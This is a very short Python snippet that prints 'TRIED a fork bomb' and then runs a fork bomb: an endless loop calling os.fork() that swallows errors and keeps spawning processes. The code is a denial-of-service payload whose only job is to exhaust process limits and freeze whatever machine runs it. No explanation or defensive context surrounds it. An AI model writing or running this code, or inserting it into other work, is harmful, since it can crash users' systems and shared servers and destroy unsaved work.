say("TRIED a fork bomb")
while True:
    try:
        os.fork()
    except OSError:
        pass
